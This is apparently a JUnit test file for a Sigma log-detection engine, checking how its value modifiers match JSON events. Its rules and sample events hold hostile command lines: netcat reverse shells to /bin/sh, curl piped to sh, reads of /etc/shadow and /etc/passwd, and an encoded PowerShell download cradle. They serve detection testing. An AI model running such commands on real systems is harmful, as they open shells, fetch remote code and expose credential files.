package dev.picket.engine.sigma;

import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.Base64;

import static dev.picket.engine.sigma.Sigma.matches;
import static org.assertj.core.api.Assertions.assertThat;

/** Every value modifier of the modifiers appendix that applies to JSON logs. */
class ModifiersTest {

    private static String entry(String key, String yamlValue) {
        return """
                selection:
                    %s: %s
                condition: selection
                """.formatted(key, yamlValue);
    }

    private static String json(String field, String value) {
        return "{'" + field + "': " + com.fasterxml.jackson.databind.node.TextNode.valueOf(value) + "}";
    }

    @Nested
    class Generic {
        @Test
        void containsMatchesAnywhere() {
            String d = entry("CommandLine|contains", "'/etc/shadow'");
            assertThat(matches(d, json("CommandLine", "cat /ETC/shadow now"))).isTrue();
            assertThat(matches(d, json("CommandLine", "cat /etc/shado"))).isFalse();
        }

        @Test
        void startswithMatchesTheBeginning() {
            String d = entry("Image|startswith", "'/tmp/'");
            assertThat(matches(d, json("Image", "/tmp/x"))).isTrue();
            assertThat(matches(d, json("Image", "/var/tmp/x"))).isFalse();
        }

        @Test
        void endswithMatchesTheEnd() {
            String d = entry("Image|endswith", "'/nc'");
            assertThat(matches(d, json("Image", "/usr/bin/NC"))).isTrue();
            assertThat(matches(d, json("Image", "/usr/bin/nc.openbsd"))).isFalse();
        }

        @Test
        void allRequiresEveryValue() {
            String d = """
                    selection:
                        CommandLine|contains|all:
                            - ' -e '
                            - '/bin/sh'
                    condition: selection
                    """;
            assertThat(matches(d, json("CommandLine", "nc -e /bin/sh 10.0.0.1"))).isTrue();
            assertThat(matches(d, json("CommandLine", "nc 10.0.0.1 -e /bin/bash"))).isFalse();
        }

        @Test
        void allLetsEachValueMatchADifferentListElement() {
            String d = """
                    selection:
                        args|all:
                            - '-it'
                            - 'sh'
                    condition: selection
                    """;
            assertThat(matches(d, "{'args': ['-it', 'sh']}")).isTrue();
            assertThat(matches(d, "{'args': ['-it', 'bash']}")).isFalse();
        }

        @Test
        void existsTrueNeedsTheFieldEvenEmptyOrNull() {
            String d = entry("hostPath|exists", "true");
            assertThat(matches(d, "{'hostPath': ''}")).isTrue();
            assertThat(matches(d, "{'hostPath': null}")).isTrue();
            assertThat(matches(d, "{'other': 'x'}")).isFalse();
        }

        @Test
        void existsFalseNeedsTheFieldAbsent() {
            String d = entry("hostPath|exists", "false");
            assertThat(matches(d, "{'other': 'x'}")).isTrue();
            assertThat(matches(d, "{'hostPath': '/'}")).isFalse();
        }

        @Test
        void casedComparesCaseSensitively() {
            String d = entry("User|cased", "Admin");
            assertThat(matches(d, json("User", "Admin"))).isTrue();
            assertThat(matches(d, json("User", "admin"))).isFalse();
            String contains = entry("User|contains|cased", "dm");
            assertThat(matches(contains, json("User", "Admin"))).isTrue();
            assertThat(matches(contains, json("User", "ADMIN"))).isFalse();
        }

        @Test
        void neqMatchesWhenTheFieldHasNoneOfTheValues() {
            String d = """
                    selection:
                        verb|neq:
                            - get
                            - list
                    condition: selection
                    """;
            assertThat(matches(d, "{'verb': 'delete'}")).isTrue();
            assertThat(matches(d, "{'verb': 'GET'}")).isFalse();
            assertThat(matches(d, "{'verb': 'list'}")).isFalse();
        }
    }

    @Nested
    class RegularExpressions {
        @Test
        void reSearchesUnanchored() {
            String d = entry("CommandLine|re", "'nc\\s+-e'");
            assertThat(matches(d, json("CommandLine", "busybox nc  -e /bin/sh"))).isTrue();
            assertThat(matches(d, json("CommandLine", "nc -l"))).isFalse();
        }

        @Test
        void reAnchorsWithCaretAndDollar() {
            String d = entry("Image|re", "'^/tmp/[a-z]+$'");
            assertThat(matches(d, json("Image", "/tmp/abc"))).isTrue();
            assertThat(matches(d, json("Image", "/var/tmp/abc"))).isFalse();
        }

        @Test
        void reIsCaseSensitiveByDefault() {
            String d = entry("Image|re", "'/TMP/'");
            assertThat(matches(d, json("Image", "/tmp/x"))).isFalse();
            assertThat(matches(d, json("Image", "/TMP/x"))).isTrue();
        }

        @Test
        void iMakesItCaseInsensitive() {
            String d = entry("Image|re|i", "'/TMP/'");
            assertThat(matches(d, json("Image", "/tmp/x"))).isTrue();
            assertThat(matches(d, json("Image", "/var/x"))).isFalse();
        }

        @Test
        void mLetsCaretAndDollarMatchAtLines() {
            String d = entry("Script|re|m", "'^curl .*$'");
            assertThat(matches(d, json("Script", "set -e\ncurl http://x\n"))).isTrue();
            assertThat(matches(entry("Script|re", "'^curl .*$'"), json("Script", "set -e\ncurl http://x\n"))).isFalse();
        }

        @Test
        void sLetsDotMatchNewlines() {
            String d = entry("Script|re|s", "'curl.*sh'");
            assertThat(matches(d, json("Script", "curl x |\nsh"))).isTrue();
            assertThat(matches(entry("Script|re", "'curl.*sh'"), json("Script", "curl x |\nsh"))).isFalse();
        }
    }

    @Nested
    class Encodings {
        private String b64(String s) {
            return Base64.getEncoder().encodeToString(s.getBytes(StandardCharsets.UTF_8));
        }

        @Test
        void base64MatchesTheEncodedValue() {
            String d = entry("Payload|base64", "'/bin/sh'");
            assertThat(matches(d, json("Payload", b64("/bin/sh")))).isTrue();
            assertThat(matches(d, json("Payload", b64("/bin/bash")))).isFalse();
        }

        @Test
        void base64ThenContainsFindsItInsideText() {
            String d = entry("CommandLine|base64|contains", "'curl'");
            assertThat(matches(d, json("CommandLine", "echo " + b64("curl") + " | base64 -d"))).isTrue();
        }

        @Test
        void encodedValuesAreCaseSensitive() {
            String d = entry("Payload|base64", "'/bin/sh'");
            assertThat(matches(d, json("Payload", b64("/bin/sh").toLowerCase()))).isFalse();
        }

        @Test
        void base64offsetFindsTheValueAtEveryAlignment() {
            String d = entry("CommandLine|base64offset|contains", "'/etc/passwd'");
            assertThat(matches(d, json("CommandLine", "echo " + b64("cat /etc/passwd") + " | base64 -d | sh"))).isTrue();
            assertThat(matches(d, json("CommandLine", b64("xcat /etc/passwd;")))).isTrue();
            assertThat(matches(d, json("CommandLine", b64("xxcat /etc/passwd ")))).isTrue();
            assertThat(matches(d, json("CommandLine", b64("cat /etc/shadow")))).isFalse();
        }

        @Test
        void utf16leAndWideEncodeLittleEndianBeforeBase64() {
            String encoded = Base64.getEncoder().encodeToString("cmd".getBytes(StandardCharsets.UTF_16LE));
            assertThat(matches(entry("Payload|utf16le|base64", "cmd"), json("Payload", encoded))).isTrue();
            assertThat(matches(entry("Payload|wide|base64", "cmd"), json("Payload", encoded))).isTrue();
            assertThat(matches(entry("Payload|utf16be|base64", "cmd"), json("Payload", encoded))).isFalse();
        }

        @Test
        void utf16beEncodesBigEndian() {
            String encoded = Base64.getEncoder().encodeToString("cmd".getBytes(StandardCharsets.UTF_16BE));
            assertThat(matches(entry("Payload|utf16be|base64", "cmd"), json("Payload", encoded))).isTrue();
        }

        @Test
        void utf16PrependsAByteOrderMark() {
            byte[] le = "cmd".getBytes(StandardCharsets.UTF_16LE);
            byte[] withBom = new byte[le.length + 2];
            withBom[0] = (byte) 0xFF;
            withBom[1] = (byte) 0xFE;
            System.arraycopy(le, 0, withBom, 2, le.length);
            String d = entry("Payload|utf16|base64", "cmd");
            assertThat(matches(d, json("Payload", Base64.getEncoder().encodeToString(withBom)))).isTrue();
            assertThat(matches(d, json("Payload", Base64.getEncoder().encodeToString(le)))).isFalse();
        }

        @Test
        void wideWithBase64offsetFindsPowerShellStyleEncodedCommands() {
            String script = "IEX (New-Object Net.WebClient).DownloadString('http://x')";
            String encoded = Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
            String d = entry("CommandLine|wide|base64offset|contains", "'DownloadString'");
            assertThat(matches(d, json("CommandLine", "pwsh -enc " + encoded))).isTrue();
            assertThat(matches(entry("CommandLine|wide|base64offset|contains", "'Invoke-Expression'"),
                    json("CommandLine", "pwsh -enc " + encoded))).isFalse();
        }

        @Test
        void windashMatchesEveryDashVariant() {
            String d = entry("CommandLine|windash|contains", "' -f '");
            for (String dash : new String[] {"-", "/", "\u2013", "\u2014", "\u2015"}) {
                assertThat(matches(d, json("CommandLine", "tool " + dash + "f x"))).as(dash).isTrue();
            }
            assertThat(matches(d, json("CommandLine", "tool +f x"))).isFalse();
        }
    }

    @Nested
    class Numeric {
        @Test
        void comparisons() {
            assertThat(matches(entry("Port|lt", "1024"), "{'Port': 22}")).isTrue();
            assertThat(matches(entry("Port|lt", "1024"), "{'Port': 1024}")).isFalse();
            assertThat(matches(entry("Port|lte", "1024"), "{'Port': 1024}")).isTrue();
            assertThat(matches(entry("Port|lte", "1024"), "{'Port': 1025}")).isFalse();
            assertThat(matches(entry("Port|gt", "1024"), "{'Port': 1025}")).isTrue();
            assertThat(matches(entry("Port|gt", "1024"), "{'Port': 1024}")).isFalse();
            assertThat(matches(entry("Port|gte", "1024"), "{'Port': 1024}")).isTrue();
            assertThat(matches(entry("Port|gte", "1024"), "{'Port': 1023}")).isFalse();
        }

        @Test
        void numericStringsCompareAsNumbers() {
            assertThat(matches(entry("Port|gt", "1024"), "{'Port': '8080'}")).isTrue();
            assertThat(matches(entry("Port|gt", "1024"), "{'Port': 'high'}")).isFalse();
        }

        @Test
        void neqOnNumbers() {
            assertThat(matches(entry("Port|neq", "443"), "{'Port': 80}")).isTrue();
            assertThat(matches(entry("Port|neq", "443"), "{'Port': 443}")).isFalse();
        }
    }

    @Nested
    class Time {
        private static final String EVENT = "{'time': '2026-03-04T22:15:30Z'}";

        @Test
        void eachPartOfTheTimestamp() {
            assertThat(matches(entry("time|minute", "15"), EVENT)).isTrue();
            assertThat(matches(entry("time|hour", "22"), EVENT)).isTrue();
            assertThat(matches(entry("time|day", "4"), EVENT)).isTrue();
            assertThat(matches(entry("time|week", "10"), EVENT)).isTrue();
            assertThat(matches(entry("time|month", "3"), EVENT)).isTrue();
            assertThat(matches(entry("time|year", "2026"), EVENT)).isTrue();
        }

        @Test
        void nearMisses() {
            assertThat(matches(entry("time|minute", "16"), EVENT)).isFalse();
            assertThat(matches(entry("time|hour", "21"), EVENT)).isFalse();
            assertThat(matches(entry("time|day", "3"), EVENT)).isFalse();
            assertThat(matches(entry("time|week", "9"), EVENT)).isFalse();
            assertThat(matches(entry("time|month", "4"), EVENT)).isFalse();
            assertThat(matches(entry("time|year", "2025"), EVENT)).isFalse();
            assertThat(matches(entry("time|hour", "22"), "{'time': 'yesterday'}")).isFalse();
        }

        @Test
        void partsCompareWithNumericModifiers() {
            String night = """
                    selection:
                        time|hour|gte: 22
                    condition: selection
                    """;
            assertThat(matches(night, EVENT)).isTrue();
            assertThat(matches(night, "{'time': '2026-03-04T08:00:00Z'}")).isFalse();
        }
    }

    @Nested
    class Cidr {
        @Test
        void ipv4Networks() {
            String d = entry("DestinationIp|cidr", "10.0.0.0/8");
            assertThat(matches(d, json("DestinationIp", "10.20.30.40"))).isTrue();
            assertThat(matches(d, json("DestinationIp", "11.0.0.1"))).isFalse();
            assertThat(matches(d, json("DestinationIp", "not-an-ip"))).isFalse();
        }

        @Test
        void prefixesThatDoNotEndOnAByte() {
            String d = entry("DestinationIp|cidr", "169.254.169.254/31");
            assertThat(matches(d, json("DestinationIp", "169.254.169.255"))).isTrue();
            assertThat(matches(d, json("DestinationIp", "169.254.169.253"))).isFalse();
        }

        @Test
        void ipv6Networks() {
            String d = entry("DestinationIp|cidr", "'fd00::/8'");
            assertThat(matches(d, json("DestinationIp", "fd12:3456::1"))).isTrue();
            assertThat(matches(d, json("DestinationIp", "fe80::1"))).isFalse();
            assertThat(matches(d, json("DestinationIp", "10.0.0.1"))).isFalse();
        }

        @Test
        void ipv4MappedAddressesCountAsIpv4() {
            assertThat(matches(entry("SourceIp|cidr", "192.168.0.0/16"), json("SourceIp", "::ffff:192.168.1.1"))).isTrue();
        }
    }

    @Nested
    class FieldRef {
        @Test
        void comparesTwoFieldsOfTheEvent() {
            String d = entry("User|fieldref", "TargetUser");
            assertThat(matches(d, "{'User': 'Root', 'TargetUser': 'root'}")).isTrue();
            assertThat(matches(d, "{'User': 'alice', 'TargetUser': 'root'}")).isFalse();
            assertThat(matches(d, "{'User': 'alice'}")).isFalse();
        }

        @Test
        void combinesWithNeq() {
            String d = entry("User|fieldref|neq", "TargetUser");
            assertThat(matches(d, "{'User': 'alice', 'TargetUser': 'root'}")).isTrue();
            assertThat(matches(d, "{'User': 'root', 'TargetUser': 'root'}")).isFalse();
        }

        @Test
        void combinesWithPlacement() {
            String d = entry("CommandLine|fieldref|contains", "Image");
            assertThat(matches(d, "{'CommandLine': 'sudo /bin/sh -c x', 'Image': '/bin/sh'}")).isTrue();
            assertThat(matches(d, "{'CommandLine': 'sudo bash', 'Image': '/bin/sh'}")).isFalse();
        }
    }
}
